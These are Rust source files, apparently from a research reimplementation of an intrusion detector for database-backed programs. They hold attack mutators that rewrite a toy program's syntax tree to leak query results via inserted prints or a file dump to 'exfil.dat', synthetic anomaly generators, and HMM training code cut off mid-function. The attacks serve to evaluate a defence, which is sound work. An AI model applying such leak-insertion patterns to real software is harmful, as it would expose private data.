//! The adversary of §III / §V-C, in executable form:
//!
//! * [`mutate`] — source/binary-level program mutations: attack 1 (insert
//!   a print similar to one in another branch), attack 2 (new call in a
//!   different function), attack 3 (reuse an existing print for the TD),
//!   attack 4 (Dyninst-style binary patch dumping results to a file);
//! * attack 5 needs no mutation — it is the Fig. 2 tautology input,
//!   provided by `adprom_workloads::banking::injection_case`;
//! * [`synthetic`] — the A-S1/A-S2/A-S3 anomalous-sequence generators of
//!   the §V-D scalability experiment.

#![warn(missing_docs)]

pub mod mutate;
pub mod synthetic;

pub use mutate::{
    attack1_insert_similar_print, attack2_new_call_in_function, attack3_reuse_print,
    attack4_binary_patch, AttackOutcome,
};
pub use synthetic::{a_s1, a_s2, a_s3, labeled_mix, AS1_TAIL};
