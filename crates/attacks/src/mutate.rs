//! Program mutators implementing the attacks of §V-C.
//!
//! Each mutator takes the original program and returns a modified copy plus
//! a description of what was changed. Mutations allocate fresh call-site
//! ids through the program, like real code edits or binary patches would
//! shift block addresses.

use adprom_lang::{Callee, Expr, Function, LibCall, Program, Stmt};

/// A mutated program and what was done to it.
#[derive(Debug, Clone)]
pub struct AttackOutcome {
    /// The modified program.
    pub program: Program,
    /// Which function was targeted.
    pub target_function: String,
    /// Human-readable description.
    pub description: String,
}

/// Attack 1: insert a new printing command *similar to another command in
/// another branch of the program* — the call sequence looks identical
/// without block ids. Finds an `if` whose one branch prints and clones the
/// print into the opposite branch.
pub fn attack1_insert_similar_print(prog: &Program) -> Option<AttackOutcome> {
    let mut out = prog.clone();
    // Pass 1 (immutable): find a function with a print inside an if branch.
    let candidates: Vec<(String, Stmt)> = out
        .functions
        .iter()
        .filter_map(|f| find_branch_print(&f.body).map(|p| (f.name.clone(), p)))
        .collect();
    for (name, print_stmt) in candidates {
        let mut cloned = print_stmt;
        refresh_sites(&mut cloned, &mut out);
        let func = out.function_mut(&name).expect("function still present");
        if insert_into_opposite_branch(&mut func.body, &cloned) {
            out.recompute_next_site();
            return Some(AttackOutcome {
                program: out,
                target_function: name.clone(),
                description: format!(
                    "attack 1: cloned a print statement into the opposite branch of an if in `{name}`"
                ),
            });
        }
    }
    None
}

/// Attack 2: insert a *new call in a different function* that prints query
/// results. The attacker picks a function that never touched the TD and
/// adds a fetch-and-print there.
pub fn attack2_new_call_in_function(prog: &Program, query: &str) -> Option<AttackOutcome> {
    let mut out = prog.clone();
    // Target: preferably a function with no output sink at all; otherwise
    // one that never issues `printf` — either way the inserted call is new
    // for that function (the out-of-context signal).
    let target = out
        .functions
        .iter()
        .find(|f| f.name != "main" && !function_has_output_sink(f) && !f.body.is_empty())
        .or_else(|| {
            out.functions.iter().find(|f| {
                f.name != "main" && !function_calls(f, LibCall::Printf) && !f.body.is_empty()
            })
        })?
        .name
        .clone();

    let exec = call_expr(
        &mut out,
        LibCall::PQexec,
        vec![Expr::var("conn"), Expr::str(query)],
    );
    let getv = call_expr(
        &mut out,
        LibCall::PQgetvalue,
        vec![Expr::var("__r"), Expr::Int(0), Expr::Int(0)],
    );
    let print = call_expr(
        &mut out,
        LibCall::Printf,
        vec![Expr::str("%s"), Expr::var("__leak")],
    );
    let func = out.function_mut(&target).expect("target exists");
    func.body.insert(0, Stmt::Let("__r".into(), exec));
    func.body.insert(1, Stmt::Let("__leak".into(), getv));
    func.body.insert(2, Stmt::Expr(print));
    out.recompute_next_site();
    Some(AttackOutcome {
        program: out,
        target_function: target.clone(),
        description: format!(
            "attack 2: inserted a query + print of its result into `{target}`, which never printed before"
        ),
    })
}

/// Attack 3: *reuse an existing print command* — change the arguments of a
/// constant print to output a field of the query result instead. The call
/// sequence is unchanged; only the data flowing through it differs.
pub fn attack3_reuse_print(prog: &Program) -> Option<AttackOutcome> {
    let mut out = prog.clone();
    for fi in 0..out.functions.len() {
        let func = &out.functions[fi];
        // The function must already hold TD in a variable...
        let Some(td_var) = tainted_var_in(func) else {
            continue;
        };
        let name = func.name.clone();
        // ...and have a print whose arguments are all constants.
        let func = &mut out.functions[fi];
        if let Some(args) = find_constant_print_args(&mut func.body) {
            *args = vec![Expr::str("%s"), Expr::var(&td_var)];
            return Some(AttackOutcome {
                program: out,
                target_function: name.clone(),
                description: format!(
                    "attack 3: redirected an existing constant print in `{name}` to output `{td_var}` (query result)"
                ),
            });
        }
    }
    None
}

/// Attack 4: *binary patching* — the attacker rewrites the binary (Dyninst
/// style) to add a patch that dumps query results to a file. We splice the
/// patch after the first statement of a data-bearing function, the moral
/// equivalent of inserting instrumentation at an arbitrary code address.
pub fn attack4_binary_patch(prog: &Program, query: &str) -> Option<AttackOutcome> {
    let mut out = prog.clone();
    let target = out
        .functions
        .iter()
        .find(|f| f.name != "main" && !f.body.is_empty())?
        .name
        .clone();
    let fopen = call_expr(
        &mut out,
        LibCall::Fopen,
        vec![Expr::str("exfil.dat"), Expr::str("a")],
    );
    let exec = call_expr(
        &mut out,
        LibCall::PQexec,
        vec![Expr::var("conn"), Expr::str(query)],
    );
    let getv = call_expr(
        &mut out,
        LibCall::PQgetvalue,
        vec![Expr::var("__pr"), Expr::Int(0), Expr::Int(0)],
    );
    let dump = call_expr(
        &mut out,
        LibCall::Fwrite,
        vec![
            Expr::var("__pv"),
            Expr::Int(1),
            Expr::Int(64),
            Expr::var("__pf"),
        ],
    );
    let func = out.function_mut(&target).expect("target exists");
    let at = 1.min(func.body.len());
    func.body.insert(at, Stmt::Let("__pf".into(), fopen));
    func.body.insert(at + 1, Stmt::Let("__pr".into(), exec));
    func.body.insert(at + 2, Stmt::Let("__pv".into(), getv));
    func.body.insert(at + 3, Stmt::Expr(dump));
    out.recompute_next_site();
    Some(AttackOutcome {
        program: out,
        target_function: target.clone(),
        description: format!(
            "attack 4: binary patch in `{target}` dumping query results to exfil.dat"
        ),
    })
}

// ---- helpers ----

fn call_expr(prog: &mut Program, lc: LibCall, args: Vec<Expr>) -> Expr {
    Expr::Call {
        site: prog.fresh_site(),
        callee: Callee::Library(lc),
        args,
        line: 0,
    }
}

fn is_print_stmt(stmt: &Stmt) -> bool {
    matches!(
        stmt,
        Stmt::Expr(Expr::Call {
            callee: Callee::Library(lc),
            ..
        }) if lc.is_output_sink()
    )
}

/// Finds a print statement living in a branch of some `if`, returning a
/// clone of it.
fn find_branch_print(body: &[Stmt]) -> Option<Stmt> {
    for stmt in body.iter() {
        match stmt {
            Stmt::If {
                then_branch,
                else_branch,
                ..
            } => {
                if let Some(p) = then_branch.iter().find(|s| is_print_stmt(s)) {
                    return Some(p.clone());
                }
                if let Some(p) = else_branch.iter().find(|s| is_print_stmt(s)) {
                    return Some(p.clone());
                }
                if let Some(p) = find_branch_print(then_branch) {
                    return Some(p);
                }
                if let Some(p) = find_branch_print(else_branch) {
                    return Some(p);
                }
            }
            Stmt::While { body, .. } => {
                if let Some(p) = find_branch_print(body) {
                    return Some(p);
                }
            }
            Stmt::For { body, .. } => {
                if let Some(p) = find_branch_print(body) {
                    return Some(p);
                }
            }
            _ => {}
        }
    }
    None
}

/// Inserts the statement into the branch of the first `if` that does *not*
/// already contain a print.
fn insert_into_opposite_branch(body: &mut [Stmt], stmt: &Stmt) -> bool {
    for s in body.iter_mut() {
        match s {
            Stmt::If {
                then_branch,
                else_branch,
                ..
            } => {
                let then_has = then_branch.iter().any(is_print_stmt);
                let else_has = else_branch.iter().any(is_print_stmt);
                if then_has && !else_has {
                    else_branch.push(stmt.clone());
                    return true;
                }
                if else_has && !then_has {
                    then_branch.push(stmt.clone());
                    return true;
                }
                if insert_into_opposite_branch(then_branch, stmt)
                    || insert_into_opposite_branch(else_branch, stmt)
                {
                    return true;
                }
            }
            Stmt::While { body, .. } | Stmt::For { body, .. } => {
                // Not a pattern guard: the recursive call needs &mut body.
                #[allow(clippy::collapsible_match)]
                if insert_into_opposite_branch(body, stmt) {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// Gives every call inside the statement a fresh site id (an inserted
/// statement is new code — new blocks, new addresses).
fn refresh_sites(stmt: &mut Stmt, prog: &mut Program) {
    let mut fix = |e: &mut Expr| {
        e.walk_mut(&mut |e| {
            if let Expr::Call { site, .. } = e {
                *site = prog.fresh_site();
            }
        })
    };
    match stmt {
        Stmt::Let(_, e) | Stmt::Assign(_, e) | Stmt::Expr(e) => fix(e),
        Stmt::Return(Some(e)) => fix(e),
        _ => {}
    }
}

fn function_calls(f: &Function, target: LibCall) -> bool {
    let mut found = false;
    let prog = Program::new(vec![f.clone()], u32::MAX);
    prog.for_each_call(|_, callee, _| {
        if matches!(callee, Callee::Library(lc) if *lc == target) {
            found = true;
        }
    });
    found
}

fn function_has_output_sink(f: &Function) -> bool {
    let mut found = false;
    let prog = Program::new(vec![f.clone()], u32::MAX);
    prog.for_each_call(|_, callee, _| {
        if let Callee::Library(lc) = callee {
            if lc.is_output_sink() {
                found = true;
            }
        }
    });
    found
}

/// A variable in `f` assigned directly from a DB-source call.
fn tainted_var_in(f: &Function) -> Option<String> {
    fn scan(stmts: &[Stmt]) -> Option<String> {
        for s in stmts {
            match s {
                Stmt::Let(name, Expr::Call { callee, .. })
                | Stmt::Assign(name, Expr::Call { callee, .. }) => {
                    if let Callee::Library(lc) = callee {
                        if lc.is_db_source() {
                            return Some(name.clone());
                        }
                    }
                }
                Stmt::If {
                    then_branch,
                    else_branch,
                    ..
                } => {
                    if let Some(v) = scan(then_branch).or_else(|| scan(else_branch)) {
                        return Some(v);
                    }
                }
                Stmt::While { body, .. } | Stmt::For { body, .. } => {
                    if let Some(v) = scan(body) {
                        return Some(v);
                    }
                }
                _ => {}
            }
        }
        None
    }
    scan(&f.body)
}

/// A path to a statement: at each level, the statement index and which
/// sub-body to descend into next (None = the print is here).
type PrintPath = Vec<(usize, SubBody)>;

#[derive(Debug, Clone, Copy, PartialEq)]
enum SubBody {
    Here,
    Then,
    Else,
    Loop,
}

/// Finds a print whose args are all literals and returns a mutable
/// reference to its argument list. The search prefers *hot* sites — loop
/// bodies first, then straight-line code, then `if` branches — because an
/// attack that only fires on an error path would rarely manifest at run
/// time.
fn find_constant_print_args(body: &mut [Stmt]) -> Option<&mut Vec<Expr>> {
    let path = locate_constant_print(body, 0)
        .or_else(|| locate_constant_print(body, 1))
        .or_else(|| locate_constant_print(body, 2))?;
    resolve_print_path(body, &path)
}

fn is_constant_expr(e: &Expr) -> bool {
    matches!(
        e,
        Expr::Int(_) | Expr::Float(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null
    )
}

fn is_constant_print(stmt: &Stmt) -> bool {
    matches!(
        stmt,
        Stmt::Expr(Expr::Call {
            callee: Callee::Library(lc),
            args,
            ..
        }) if lc.is_output_sink() && args.iter().all(is_constant_expr)
    )
}

/// Priority pass 0 = inside loops, 1 = top-level, 2 = inside if branches.
fn locate_constant_print(body: &[Stmt], pass: u8) -> Option<PrintPath> {
    for (i, stmt) in body.iter().enumerate() {
        match stmt {
            _ if pass == 1 && is_constant_print(stmt) => {
                return Some(vec![(i, SubBody::Here)]);
            }
            Stmt::While { body: b, .. } | Stmt::For { body: b, .. } if pass == 0 => {
                // Anything within the loop counts as hot: any pass inside.
                for inner_pass in [1, 0, 2] {
                    if let Some(mut rest) = locate_constant_print(b, inner_pass) {
                        let mut path = vec![(i, SubBody::Loop)];
                        path.append(&mut rest);
                        return Some(path);
                    }
                }
            }
            Stmt::If {
                then_branch,
                else_branch,
                ..
            } if pass == 2 => {
                for inner_pass in [1, 0, 2] {
                    if let Some(mut rest) = locate_constant_print(then_branch, inner_pass) {
                        let mut path = vec![(i, SubBody::Then)];
                        path.append(&mut rest);
                        return Some(path);
                    }
                    if let Some(mut rest) = locate_constant_print(else_branch, inner_pass) {
                        let mut path = vec![(i, SubBody::Else)];
                        path.append(&mut rest);
                        return Some(path);
                    }
                }
            }
            _ => {}
        }
    }
    None
}

fn resolve_print_path<'a>(
    body: &'a mut [Stmt],
    path: &[(usize, SubBody)],
) -> Option<&'a mut Vec<Expr>> {
    let ((i, kind), rest) = path.split_first()?;
    let stmt = body.get_mut(*i)?;
    match (kind, stmt) {
        (SubBody::Here, Stmt::Expr(Expr::Call { args, .. })) => Some(args),
        (SubBody::Then, Stmt::If { then_branch, .. }) => resolve_print_path(then_branch, rest),
        (SubBody::Else, Stmt::If { else_branch, .. }) => resolve_print_path(else_branch, rest),
        (SubBody::Loop, Stmt::While { body, .. }) | (SubBody::Loop, Stmt::For { body, .. }) => {
            resolve_print_path(body, rest)
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::{parse_program, validate};

    const VICTIM: &str = r#"
        fn main() {
            let c = atoi(scanf());
            if (c == 1) { report(conn); } else { helper(); }
        }
        fn report(conn) {
            let r = PQexec(conn, "SELECT * FROM t");
            let v = PQgetvalue(r, 0, 0);
            if (v != null) {
                printf("%s", v);
            } else {
                let x = 1;
            }
            puts("done");
        }
        fn helper() {
            let y = strlen("abc");
        }
    "#;

    fn victim() -> Program {
        parse_program(VICTIM).unwrap()
    }

    #[test]
    fn attack1_clones_print_into_other_branch() {
        let prog = victim();
        let before = prog.call_site_count();
        let outcome = attack1_insert_similar_print(&prog).unwrap();
        assert!(validate(&outcome.program).is_empty());
        assert!(outcome.program.call_site_count() > before);
        // The original program is untouched.
        assert_eq!(prog.call_site_count(), before);
    }

    #[test]
    fn attack2_targets_function_without_prints() {
        let prog = victim();
        let outcome = attack2_new_call_in_function(&prog, "SELECT * FROM t").unwrap();
        assert_eq!(outcome.target_function, "helper");
        assert!(validate(&outcome.program).is_empty());
        // helper now prints.
        let helper = outcome.program.function("helper").unwrap();
        assert!(function_has_output_sink(helper));
    }

    #[test]
    fn attack3_rewires_constant_print() {
        let prog = victim();
        let outcome = attack3_reuse_print(&prog).unwrap();
        assert_eq!(outcome.target_function, "report");
        assert!(validate(&outcome.program).is_empty());
        // Same number of call sites: nothing inserted, only args changed.
        assert_eq!(outcome.program.call_site_count(), prog.call_site_count());
        assert!(outcome.description.contains('r'));
    }

    #[test]
    fn attack4_splices_file_dump() {
        let prog = victim();
        let outcome = attack4_binary_patch(&prog, "SELECT * FROM t").unwrap();
        assert!(validate(&outcome.program).is_empty());
        let mut has_fwrite = false;
        outcome.program.for_each_call(|_, callee, _| {
            if callee.name() == "fwrite" {
                has_fwrite = true;
            }
        });
        assert!(has_fwrite);
    }

    #[test]
    fn mutations_allocate_fresh_sites() {
        let prog = victim();
        let outcome = attack2_new_call_in_function(&prog, "SELECT 1").unwrap();
        // No duplicate site ids (validate checks this too, but be explicit).
        let mut seen = std::collections::HashSet::new();
        let mut dup = false;
        outcome.program.for_each_call(|site, _, _| {
            if !seen.insert(site.0) {
                dup = true;
            }
        });
        assert!(!dup);
    }
}
