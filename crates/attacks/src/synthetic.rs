//! Synthetic anomalous sequences (§V-D): the three generators used by the
//! scalability experiment.
//!
//! * **A-S1** — replace the tail of a normal sequence (the last 5 calls)
//!   with random calls drawn from the *legitimate* set;
//! * **A-S2** — inject library calls that do not belong to the legitimate
//!   set at all;
//! * **A-S3** — increase the frequency of legitimate calls (repeat a run
//!   inside the sequence), modelling the higher-selectivity attacks.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// How many trailing calls A-S1 replaces (the paper uses 5).
pub const AS1_TAIL: usize = 5;

/// A-S1: replace the last [`AS1_TAIL`] calls with random legitimate calls.
pub fn a_s1(window: &[String], legitimate: &[String], seed: u64) -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = window.to_vec();
    if legitimate.is_empty() || out.is_empty() {
        return out;
    }
    let start = out.len().saturating_sub(AS1_TAIL);
    for slot in out.iter_mut().skip(start) {
        *slot = legitimate[rng.gen_range(0..legitimate.len())].clone();
    }
    out
}

/// A-S2: inject `count` calls that are outside the legitimate set, at
/// random positions.
pub fn a_s2(window: &[String], count: usize, seed: u64) -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = window.to_vec();
    for k in 0..count {
        let pos = if out.is_empty() {
            0
        } else {
            rng.gen_range(0..=out.len())
        };
        out.insert(pos, format!("__injected_call_{}", k % 4));
    }
    out
}

/// A-S3: pick a random position and repeat the call there `extra` more
/// times — the trace shape of a query that suddenly returns far more rows.
pub fn a_s3(window: &[String], extra: usize, seed: u64) -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(seed);
    if window.is_empty() {
        return Vec::new();
    }
    let pos = rng.gen_range(0..window.len());
    let mut out = Vec::with_capacity(window.len() + extra);
    for (i, name) in window.iter().enumerate() {
        out.push(name.clone());
        if i == pos {
            for _ in 0..extra {
                out.push(name.clone());
            }
        }
    }
    out
}

/// Generates a labeled evaluation set: `(sequence, is_anomalous)` pairs
/// mixing normal windows with all three anomaly types, at roughly
/// `anomaly_fraction` anomalous.
pub fn labeled_mix(
    normal_windows: &[Vec<String>],
    legitimate: &[String],
    anomaly_fraction: f64,
    seed: u64,
) -> Vec<(Vec<String>, bool)> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::with_capacity(normal_windows.len());
    for (i, w) in normal_windows.iter().enumerate() {
        if rng.gen_bool(anomaly_fraction) {
            let variant = i % 3;
            let seq = match variant {
                0 => a_s1(w, legitimate, seed ^ i as u64),
                1 => a_s2(w, 2, seed ^ i as u64),
                _ => a_s3(w, 6, seed ^ i as u64),
            };
            out.push((seq, true));
        } else {
            out.push((w.clone(), false));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn window() -> Vec<String> {
        (0..15).map(|i| format!("call{}", i % 7)).collect()
    }

    fn legit() -> Vec<String> {
        (0..7).map(|i| format!("call{i}")).collect()
    }

    #[test]
    fn as1_changes_only_tail() {
        let w = window();
        let mutated = a_s1(&w, &legit(), 42);
        assert_eq!(mutated.len(), w.len());
        assert_eq!(&mutated[..10], &w[..10]);
        // Tail values remain legitimate calls.
        assert!(mutated[10..].iter().all(|c| legit().contains(c)));
    }

    #[test]
    fn as2_injects_unknown_calls() {
        let w = window();
        let mutated = a_s2(&w, 3, 7);
        assert_eq!(mutated.len(), w.len() + 3);
        assert_eq!(
            mutated
                .iter()
                .filter(|c| c.starts_with("__injected_call_"))
                .count(),
            3
        );
    }

    #[test]
    fn as3_repeats_an_existing_call() {
        let w = window();
        let mutated = a_s3(&w, 5, 9);
        assert_eq!(mutated.len(), w.len() + 5);
        // Only legitimate names appear.
        assert!(mutated.iter().all(|c| legit().contains(c)));
    }

    #[test]
    fn generators_are_deterministic() {
        let w = window();
        assert_eq!(a_s1(&w, &legit(), 1), a_s1(&w, &legit(), 1));
        assert_eq!(a_s2(&w, 2, 1), a_s2(&w, 2, 1));
        assert_eq!(a_s3(&w, 2, 1), a_s3(&w, 2, 1));
    }

    #[test]
    fn labeled_mix_respects_fraction_roughly() {
        let windows: Vec<Vec<String>> = (0..200).map(|_| window()).collect();
        let mix = labeled_mix(&windows, &legit(), 0.3, 11);
        let anomalous = mix.iter().filter(|(_, a)| *a).count();
        assert!((30..90).contains(&anomalous), "{anomalous}");
    }

    #[test]
    fn empty_inputs_are_safe() {
        assert!(a_s1(&[], &legit(), 1).is_empty());
        assert_eq!(a_s2(&[], 2, 1).len(), 2);
        assert!(a_s3(&[], 2, 1).is_empty());
    }
}
