//! The learning problem: multi-sequence Baum–Welch re-estimation with
//! held-out convergence (§IV-C4, §V-B).
//!
//! AD-PROM trains the statically-initialized model on program traces and
//! stops when the likelihood of a held-out *converge sub-dataset* (CSDS)
//! stops improving — "the system stops the training with a converged model
//! (λ) once it does not notice any improvement on the CSDS".

use crate::forward::{backward, forward, ForwardPass};
use crate::model::{normalize, Hmm};
use crate::sparse::{backward_sparse, forward_sparse, SparseConfig, SparseTransitions};
use rayon::prelude::*;

/// Training configuration.
#[derive(Debug, Clone, Copy)]
pub struct TrainConfig {
    /// Hard iteration cap.
    pub max_iterations: usize,
    /// Minimum improvement in mean held-out log-likelihood per iteration.
    pub min_improvement: f64,
    /// Additive smoothing floor applied after every re-estimation.
    pub smoothing: f64,
    /// Dirichlet pseudo-count mass (per row) anchoring re-estimation to the
    /// *initial* model — MAP EM. For AD-PROM this is how the statically
    /// computed pCTM keeps feasible-but-untrained paths alive: Baum–Welch
    /// alone starves every transition the finite trace set missed, which is
    /// exactly the false-positive failure mode the paper attributes to
    /// purely learning-based models (§I). Zero disables the prior
    /// (Rand-HMM trains with zero: it has no informed prior to keep).
    pub prior_weight: f64,
    /// Fan the E-step out over traces with rayon. Each trace produces its
    /// own sufficient statistics which are folded in input order, so the
    /// result is bit-identical to the serial path regardless of thread
    /// count (see `fold_sequence_stats`).
    pub parallel: bool,
    /// Route E-step forward/backward/ξ inner loops through the CSR kernel
    /// ([`SparseTransitions`], rebuilt from the model each iteration).
    /// Equivalent to the dense path up to FP reassociation (~1e-12); the
    /// ξ numerator's background term stays dense for smoothed rows, so the
    /// win is a constant factor (~the forward/backward/normalizer share)
    /// rather than full O(nnz) unless the model has true zero rows.
    pub sparse: bool,
}

impl Default for TrainConfig {
    fn default() -> TrainConfig {
        TrainConfig {
            max_iterations: 50,
            min_improvement: 1e-4,
            smoothing: 1e-6,
            prior_weight: 2.0,
            parallel: true,
            sparse: false,
        }
    }
}

/// Training report.
#[derive(Debug, Clone)]
pub struct TrainReport {
    /// Iterations actually run.
    pub iterations: usize,
    /// Mean held-out log-likelihood after each iteration.
    pub holdout_curve: Vec<f64>,
    /// True if training stopped because the CSDS score converged (as
    /// opposed to hitting the iteration cap).
    pub converged: bool,
}

/// Trains `hmm` in place on `train` sequences, using `holdout` (the CSDS)
/// to decide when to stop. Empty sequences are ignored.
pub fn train(
    hmm: &mut Hmm,
    train: &[Vec<usize>],
    holdout: &[Vec<usize>],
    config: &TrainConfig,
) -> TrainReport {
    let prior = if config.prior_weight > 0.0 {
        Some((hmm.clone(), config.prior_weight))
    } else {
        None
    };
    let mut best_score = mean_log_likelihood(hmm, holdout);
    let mut best_model = hmm.clone();
    let mut curve = Vec::new();
    let mut converged = false;
    let mut iterations = 0;

    for _ in 0..config.max_iterations {
        iterations += 1;
        reestimate_with_config(hmm, train, prior.as_ref().map(|(p, w)| (p, *w)), config);
        let score = mean_log_likelihood(hmm, holdout);
        curve.push(score);
        if score > best_score + config.min_improvement {
            best_score = score;
            best_model = hmm.clone();
        } else {
            // No improvement on the CSDS: keep the best model and stop.
            *hmm = best_model.clone();
            converged = true;
            break;
        }
    }
    if !converged {
        // Iteration cap: keep whichever model scored best.
        if mean_log_likelihood(hmm, holdout) < best_score {
            *hmm = best_model;
        }
    }
    TrainReport {
        iterations,
        holdout_curve: curve,
        converged,
    }
}

/// Mean per-sequence log-likelihood over a set (`-inf`-safe: impossible
/// sequences contribute a large negative penalty instead of poisoning the
/// mean).
pub fn mean_log_likelihood(hmm: &Hmm, seqs: &[Vec<usize>]) -> f64 {
    if seqs.is_empty() {
        return 0.0;
    }
    let penalty = -1e6;
    let total: f64 = seqs
        .iter()
        .map(|s| {
            let ll = crate::forward::log_likelihood(hmm, s);
            if ll.is_finite() {
                ll
            } else {
                penalty
            }
        })
        .sum();
    total / seqs.len() as f64
}

/// One Baum–Welch re-estimation step over all sequences.
pub fn reestimate(hmm: &mut Hmm, seqs: &[Vec<usize>], smoothing: f64) {
    reestimate_with_prior(hmm, seqs, smoothing, None);
}

/// One MAP-EM re-estimation step: expected counts plus `weight`
/// pseudo-counts per row distributed according to `prior`. Serial, dense —
/// equivalent to [`reestimate_with_config`] with `parallel`/`sparse` off.
pub fn reestimate_with_prior(
    hmm: &mut Hmm,
    seqs: &[Vec<usize>],
    smoothing: f64,
    prior: Option<(&Hmm, f64)>,
) {
    let config = TrainConfig {
        smoothing,
        parallel: false,
        sparse: false,
        ..TrainConfig::default()
    };
    reestimate_with_config(hmm, seqs, prior, &config);
}

/// Per-sequence E-step sufficient statistics, flat row-major. One trace's
/// expected counts are computed independently of every other trace — the
/// unit of work the parallel E-step fans out.
struct SequenceStats {
    /// Expected transition counts, `a_num[i*n + j]`.
    a_num: Vec<f64>,
    /// Transition denominators `Σ_{t<T} γ_t(i)`.
    a_den: Vec<f64>,
    /// Expected emission counts, `b_num[i*m + k]`.
    b_num: Vec<f64>,
    /// Emission denominators `Σ_t γ_t(i)`.
    b_den: Vec<f64>,
    /// `γ_0(i)` — the π accumulator contribution.
    pi_acc: Vec<f64>,
}

impl SequenceStats {
    fn zeros(n: usize, m: usize) -> SequenceStats {
        SequenceStats {
            a_num: vec![0.0; n * n],
            a_den: vec![0.0; n],
            b_num: vec![0.0; n * m],
            b_den: vec![0.0; n],
            pi_acc: vec![0.0; n],
        }
    }

    /// Element-wise accumulate. Folding per-sequence statistics into the
    /// global accumulator strictly in input order gives one fixed FP
    /// summation grouping — the serial and parallel E-steps share it, so
    /// their trained models are bit-identical by construction.
    fn fold(&mut self, other: &SequenceStats) {
        let add = |dst: &mut [f64], src: &[f64]| {
            for (d, s) in dst.iter_mut().zip(src) {
                *d += s;
            }
        };
        add(&mut self.a_num, &other.a_num);
        add(&mut self.a_den, &other.a_den);
        add(&mut self.b_num, &other.b_num);
        add(&mut self.b_den, &other.b_den);
        add(&mut self.pi_acc, &other.pi_acc);
    }
}

/// Caps how many per-sequence statistics blocks are materialized at once
/// (each is O(N²) memory). Identical for the serial and parallel paths so
/// the fold grouping — and therefore the trained model — never depends on
/// the execution mode.
const ESTEP_BATCH: usize = 32;

/// Expected counts for one trace under the current model, or `None` if the
/// trace is empty or impossible (smoothing at the end of the step
/// gradually opens such paths).
fn sequence_stats(
    hmm: &Hmm,
    sparse: Option<&SparseTransitions>,
    obs: &[usize],
) -> Option<SequenceStats> {
    let n = hmm.n_states();
    let m = hmm.n_symbols();
    let t_len = obs.len();
    if t_len == 0 {
        return None;
    }
    let fp: ForwardPass = match sparse {
        Some(sp) => forward_sparse(hmm, sp, obs),
        None => forward(hmm, obs),
    };
    if !fp.log_likelihood.is_finite() {
        return None;
    }
    let beta = match sparse {
        Some(sp) => backward_sparse(hmm, sp, obs, &fp.scale),
        None => backward(hmm, obs, &fp.scale),
    };
    let mut stats = SequenceStats::zeros(n, m);

    // gamma_t(i) ∝ alpha_t(i) * beta_t(i); with Rabiner scaling the
    // product needs dividing by c_t to be the true posterior.
    let mut gamma = vec![0.0f64; n];
    for t in 0..t_len {
        for (i, g) in gamma.iter_mut().enumerate() {
            *g = fp.alpha[t][i] * beta[t][i];
        }
        normalize(&mut gamma);
        if t == 0 {
            stats.pi_acc.copy_from_slice(&gamma);
        }
        for (i, &g) in gamma.iter().enumerate() {
            stats.b_num[i * m + obs[t]] += g;
            stats.b_den[i] += g;
            if t + 1 < t_len {
                stats.a_den[i] += g;
            }
        }
    }

    // xi_t(i,j) ∝ alpha_t(i) a_ij b_j(o_{t+1}) beta_{t+1}(j).
    // Two passes per t — normalizer, then scatter straight into the
    // accumulator — so no N×N buffer is materialized per step. The sparse
    // kernel computes the normalizer in O(nnz + N) via the row identity
    // Σ_j a_ij·bb_j = c_i·Σbb + Σ_nnz d_ij·bb_j; the scatter splits into
    // an O(nnz) deviation part plus a dense background row-axpy (only for
    // rows with a non-zero background — true-zero rows stay O(nnz)).
    let mut bb = vec![0.0f64; n];
    for t in 0..t_len.saturating_sub(1) {
        let next = obs[t + 1];
        for (j, b) in bb.iter_mut().enumerate() {
            *b = hmm.b(j, next) * beta[t + 1][j];
        }
        match sparse {
            Some(sp) => {
                let bb_sum: f64 = bb.iter().sum();
                let mut total = 0.0;
                for (i, &ai) in fp.alpha[t].iter().enumerate() {
                    if ai == 0.0 {
                        continue;
                    }
                    let (cols, _, devs) = sp.row(i);
                    let mut acc = sp.background(i) * bb_sum;
                    for (c, d) in cols.iter().zip(devs) {
                        acc += d * bb[*c as usize];
                    }
                    total += ai * acc;
                }
                if total > 0.0 {
                    let inv = 1.0 / total;
                    for (i, &alpha_i) in fp.alpha[t].iter().enumerate() {
                        let ai = alpha_i * inv;
                        if ai == 0.0 {
                            continue;
                        }
                        let out = &mut stats.a_num[i * n..(i + 1) * n];
                        let bg = sp.background(i);
                        if bg > 0.0 {
                            let w = ai * bg;
                            for (o, &bbj) in out.iter_mut().zip(&bb) {
                                *o += w * bbj;
                            }
                        }
                        let (cols, _, devs) = sp.row(i);
                        for (c, d) in cols.iter().zip(devs) {
                            let j = *c as usize;
                            out[j] += ai * d * bb[j];
                        }
                    }
                }
            }
            None => {
                let mut total = 0.0;
                for (i, &ai) in fp.alpha[t].iter().enumerate() {
                    if ai == 0.0 {
                        continue;
                    }
                    let row = hmm.a_row(i);
                    let mut acc = 0.0;
                    for (a_ij, b_beta) in row.iter().zip(&bb) {
                        acc += a_ij * b_beta;
                    }
                    total += ai * acc;
                }
                if total > 0.0 {
                    let inv = 1.0 / total;
                    for (i, &alpha_i) in fp.alpha[t].iter().enumerate() {
                        let ai = alpha_i * inv;
                        if ai == 0.0 {
                            continue;
                        }
                        let row = hmm.a_row(i);
                        let out = &mut stats.a_num[i * n..(i + 1) * n];
                        for ((o, &a_ij), &bbj) in out.iter_mut().zip(row).zip(&bb) {
                            *o += ai * a_ij * bbj;
                        }
                    }
                }
            }
        }
    }
    Some(stats)
}

/// One MAP-EM re-estimation step honoring the config's `parallel` and
/// `sparse` switches. The parallel path is bit-identical to the serial
/// path (per-trace statistics folded in input order, same batching); the
/// sparse path matches dense up to FP reassociation.
pub fn reestimate_with_config(
    hmm: &mut Hmm,
    seqs: &[Vec<usize>],
    prior: Option<(&Hmm, f64)>,
    config: &TrainConfig,
) {
    let n = hmm.n_states();
    let m = hmm.n_symbols();
    let smoothing = config.smoothing;
    let sparse = config
        .sparse
        .then(|| SparseTransitions::from_hmm(hmm, &SparseConfig::default()));
    let sp = sparse.as_ref();

    let mut acc = SequenceStats::zeros(n, m);
    let mut used_sequences = 0usize;

